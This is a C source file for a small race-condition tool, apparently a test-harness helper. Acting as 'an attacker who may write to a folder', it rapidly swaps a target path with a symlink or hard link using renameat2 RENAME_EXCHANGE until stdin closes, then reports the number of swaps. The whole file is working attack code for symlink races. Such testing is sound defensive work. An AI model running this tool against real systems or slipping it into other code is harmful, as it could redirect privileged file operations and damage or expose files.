/* An attacker who may write to a folder: swap TARGET TO [hard] exchanges TARGET for a link to TO and back, as fast as it can,
 * until standard input ends, and says how many times. What is at TARGET in the end is what was there in the beginning, or what took its place. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static int exchange(const char *one, const char *other)
{
    return renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

/* It sleeps, because the victim needs the processor. */
static void wait_a_moment(void)
{
    struct timespec moment = { 0, rand() % 20000 };
    nanosleep(&moment, NULL);
}

int main(int argc, char **argv)
{
    const char *target = argv[1], *to = argv[2];
    char aside[4096];
    snprintf(aside, sizeof aside, "%s.swap", target);
    prctl(PR_SET_TIMERSLACK, 1UL);
    puts("ready");
    fflush(stdout);
    long exchanges = 0;
    struct pollfd input = { 0, POLLIN, 0 };
    while (poll(&input, 1, 0) == 0) {
        unlink(aside);
        if (argc > 3 ? link(to, aside) : symlink(to, aside)) {
            perror(aside);
            return 1;
        }
        /* There may be nothing: the victim removes files, too. */
        if (exchange(aside, target) == 0) {
            exchanges++;
            wait_a_moment();
            exchange(aside, target);
            wait_a_moment();
        }
    }
    unlink(aside);
    printf("%ld\n", exchanges);
    return 0;
}
